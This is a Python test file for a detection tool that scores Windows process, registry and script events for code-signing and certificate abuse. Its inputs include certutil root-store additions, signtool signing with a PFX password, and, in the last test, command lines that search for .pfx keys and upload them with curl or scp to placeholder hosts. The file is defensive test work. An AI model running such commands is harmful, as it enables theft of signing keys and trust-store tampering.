"""The one entrance: a record in, every output field out, whatever the record holds."""

from __future__ import annotations

from typing import Any

import pytest
from codesignrisk_core import output, scoring
from codesignrisk_core.cmdline import normalise
from codesignrisk_core.events import process
from codesignrisk_core.records import fields, raw, sources
from codesignrisk_core.scorer import Scorer
from codesignrisk_core.settings import Settings
from hypothesis import given
from hypothesis import strategies as st

KIT = "C:\\Program Files (x86)\\Windows Kits\\10\\bin\\10.0.22621.0\\x64\\signtool.exe"
CERTUTIL = "C:\\Windows\\System32\\certutil.exe"
SYSMON = {"EventCode": "1", "Channel": "Microsoft-Windows-Sysmon/Operational"}


@pytest.fixture(scope="module")
def assess(shipped: Settings) -> Any:
    """Score with the shipped lookups. One scorer for all: it keeps nothing between records but caches."""
    return Scorer(shipped).assess


def test_a_process_that_does_nothing_of_interest(assess: Any) -> None:
    verdict = assess({**SYSMON, "Image": "C:\\Windows\\notepad.exe", "CommandLine": "notepad.exe a.txt"})
    assert {name: value for name, value in verdict.items() if value not in ("", 0)} == {
        "codesign_band": "none",
        "codesign_event": "process",
    }


@pytest.mark.parametrize(
    "record",
    [
        {"EventCode": "4624", "Image": CERTUTIL, "CommandLine": "certutil -addstore root x.cer"},
        {"EventCode": "5", "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": CERTUTIL},
        # another provider's event 1
        {"EventCode": "1", "Channel": "Microsoft-Windows-Kernel-General/Operational", "Image": CERTUTIL},
        {"EventCode": "1", "source": "WinEventLog:System", "CommandLine": "certutil -addstore root x.cer"},
        {"host": "h", "sourcetype": "syslog", "_raw": "certutil -addstore root x.cer"},
        {"anything": "else"},
        {},
    ],
)
def test_an_unknown_kind_of_event_passes(assess: Any, record: dict[str, Any]) -> None:
    verdict = assess(record)
    assert {name: value for name, value in verdict.items() if value not in ("", 0)} == {
        "codesign_band": "none",
        "codesign_event": "other",
    }


@pytest.mark.parametrize(
    "record",
    [
        {**SYSMON, "Image": CERTUTIL},
        {**SYSMON, "Image": CERTUTIL, "CommandLine": "   "},
        {"EventCode": "4688", "NewProcessName": CERTUTIL, "CommandLine": "-"},
        {"Processes.process_path": CERTUTIL},
    ],
)
def test_no_command_line_is_said(assess: Any, record: dict[str, Any]) -> None:
    verdict = assess(record)
    assert verdict["codesign_error"] == "no command line: turn on command-line auditing for process creation events"
    assert (verdict["codesign_event"], verdict["codesign_score"]) == ("process", 0)


def test_a_line_that_is_too_long_is_read_as_far_as_it_goes(assess: Any) -> None:
    line = "certutil -addstore root x.cer " + "x" * normalise.MAX_LENGTH
    verdict = assess({**SYSMON, "Image": CERTUTIL, "CommandLine": line})
    assert verdict["codesign_error"] == f"the command line was cut at {normalise.MAX_LENGTH} characters"
    assert verdict["codesign_score"] == 45


def test_verdicts_do_not_depend_on_what_came_before(shipped: Settings) -> None:
    records = [
        {**SYSMON, "Image": CERTUTIL, "CommandLine": "certutil -addstore root x.cer", "ParentImage": "cmd.exe"},
        {"EventCode": "4688", "NewProcessName": KIT, "CommandLine": "signtool sign /f a.pfx /p pw x.exe"},
        {"Processes.process": "certutil -ping", "Processes.process_name": "certutil.exe"},
        {},
    ]
    alone = [Scorer(shipped).assess(record) for record in records]
    together = Scorer(shipped)
    assert [together.assess(record) for record in [*records, *reversed(records)]] == [*alone, *reversed(alone)]


def test_a_fault_of_ours_loses_no_event(shipped: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object) -> None:
        raise RuntimeError("with a secret in it")

    monkeypatch.setattr("codesignrisk_core.scorer.scoring.score", fail)
    verdict = Scorer(shipped).assess({**SYSMON, "Image": CERTUTIL, "CommandLine": "certutil -addstore root x.cer"})
    assert verdict["codesign_error"] == "internal error, please report it: RuntimeError"
    assert tuple(verdict) == fields.OUTPUT_FIELDS


@pytest.mark.parametrize(
    ("fault", "record", "score"),
    [
        ("scorer.KINDS", {**SYSMON, "Image": CERTUTIL, "CommandLine": "certutil -addstore root x.cer"}, 25),
        ("events.registry.judge", {"EventCode": "13", "TargetObject": "HKLM\\SOFTWARE\\SystemCertificates\\x"}, 25),
        ("events.script.judge", {"EventCode": "4104", "ScriptBlockText": ["x", "Import-PfxCertificate a.pfx"]}, 25),
        ("events.process.judge", {**SYSMON, "Image": "a.exe", "CommandLine": "a.exe -b"}, 0),
    ],
)
def test_what_no_reading_worked_on_stays_when_it_names_what_we_look_for(
    shipped: Settings, monkeypatch: pytest.MonkeyPatch, fault: str, record: dict[str, Any], score: int
) -> None:
    monkeypatch.setattr(f"codesignrisk_core.{fault}", None)
    verdict = Scorer(shipped).assess(record)
    assert verdict["codesign_error"] == "internal error, please report it: TypeError"
    assert verdict["codesign_score"] == score
    assert output.is_kept(verdict, 60) is (score > 0)


@pytest.mark.parametrize(
    ("rest", "indicators"),
    [("<Data Name='CommandLine'>certutil -addstore root x.cer</Data>", ["unread_commands"]), ("<Data/>", [])],
)
def test_what_stands_behind_the_end_of_raw_is_looked_through(
    shipped: Settings, rest: str, indicators: list[str]
) -> None:
    head = (
        "<Event><EventID>1</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Data Name='Image'>a</Data>"
    )
    event = {"_raw": head + "y" * raw.MAX_LENGTH + rest}
    scorer = Scorer(shipped, use_raw=True)
    for _ in range(2):  # also where the start itself is known to say nothing
        verdict = scorer.assess(event)
        assert verdict["codesign_indicators"] == (indicators or "")
        assert verdict["codesign_error"] == f"{process.NO_COMMAND_LINE}; {raw.TOO_LONG}"
    assert Scorer(shipped).assess(event)["codesign_error"] == ""


def check(verdict: dict[str, Any]) -> None:
    """What holds for every verdict."""
    assert tuple(verdict) == fields.OUTPUT_FIELDS
    assert all(verdict[flag] in (0, 1) for flag in fields.FLAGS)
    assert 0 <= verdict["RiskScore"] <= 6
    assert 0 <= verdict["codesign_score"] <= 100
    assert verdict["codesign_band"] == scoring.band(verdict["codesign_score"])
    assert len(verdict["codesign_indicators"]) == len(verdict["codesign_reasons"])
    for value in verdict.values():
        assert isinstance(value, (str, int, list))
        for text in value if isinstance(value, list) else [str(value)]:
            assert isinstance(text, str)
            text.encode("utf-8")


# What a command line is made of, so that random lines reach the grammars.
WORDS = st.sampled_from(
    """signtool certutil.exe sign verify /f /p /tr /t -addstore root -importPFX -exportPFX my a.pfx C:\\x\\b.cer " \\"
    "" /dlib /d: -p -f -enterprise -user -dsPublish NTAuthCA \u2013addstore -\u1d43ddstore -add"store" \\\\srv\\s\\x.cer
    %TEMP%\\x.cer -dump -delstore -setreg chain\\x powershell -enc cmd /c & | ; ' ^ http://a:b@c/d.exe /kc [r{{1}}]=k
    -syncWithWU a.cer:x * {x} {0} \x00 \ud800""".split(" ")
)
LINES = st.one_of(st.text(), st.lists(st.one_of(WORDS, st.text(max_size=8)), max_size=12).map(" ".join))
IMAGES = st.one_of(st.text(), st.sampled_from([KIT, CERTUTIL, "certutil.exe", "/usr/bin/codesign", "C:\\x\\y.tmp"]))
RECORDS = st.fixed_dictionaries(
    {},
    optional={
        "EventCode": st.one_of(st.sampled_from(["1", "4688", "11", ""]), st.text()),
        "Channel": st.one_of(st.just(SYSMON["Channel"]), st.text()),
        "Image": IMAGES,
        "OriginalFileName": st.one_of(st.sampled_from(["CertUtil.exe", "SIGNTOOL.EXE", "?"]), st.text()),
        "CommandLine": LINES,
        "CurrentDirectory": st.text(),
        "ParentImage": IMAGES,
        "ParentCommandLine": LINES,
        "User": st.text(),
        "IntegrityLevel": st.one_of(st.sampled_from(["High", "Medium", "System"]), st.text()),
        "Account_Name": st.one_of(st.text(), st.lists(st.text())),
        "Account_Domain": st.one_of(st.text(), st.lists(st.text())),
        "Company": st.text(),
    },
)


@given(RECORDS)
def test_every_record_of_text_is_assessed_without_a_fault(assess: Any, record: dict[str, Any]) -> None:
    verdict = assess(record)
    check(verdict)
    assert "internal error" not in verdict["codesign_error"]


MULTIVALUE = st.one_of(st.text(), st.lists(st.text(), max_size=4))


@given(st.dictionaries(st.sampled_from(sources.required(sources.NAMES)), MULTIVALUE, max_size=20))
def test_every_field_may_be_multivalue_or_missing(assess: Any, record: dict[str, Any]) -> None:
    verdict = assess(record)
    check(verdict)
    assert "internal error" not in verdict["codesign_error"]


ODD = st.recursive(
    st.one_of(st.none(), st.text(), st.integers(), st.floats(), st.booleans(), st.binary()),
    lambda inner: st.one_of(st.lists(inner), st.tuples(inner), st.dictionaries(st.text(), inner)),
    max_leaves=6,
)


@pytest.mark.slow
@given(st.dictionaries(st.one_of(st.sampled_from(sources.required(sources.NAMES)), st.text()), ODD))
def test_no_record_at_all_raises(assess: Any, record: dict[str, Any]) -> None:
    check(assess(record))


@pytest.mark.parametrize(
    ("line", "leaves"),
    [
        ("cmd /c dir /s /b C:\\*.pfx & curl -F f=@a.zip https://x.example/", True),
        ("cmd /c xcopy C:\\Users\\*.pfx D:\\o /s & scp -r D:\\o x@h1.example:/o", True),
        ("cmd /c dir /s /b C:\\*.pfx & curl https://x.example/ -o a.txt", False),
        ("cmd /c curl -T a.zip https://x.example/", False),
    ],
)
def test_keys_that_are_found_and_something_that_is_sent(assess: Any, line: str, leaves: bool) -> None:
    verdict = assess({**SYSMON, "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": line})
    assert ("key_leaves_host" in verdict["codesign_indicators"]) == leaves
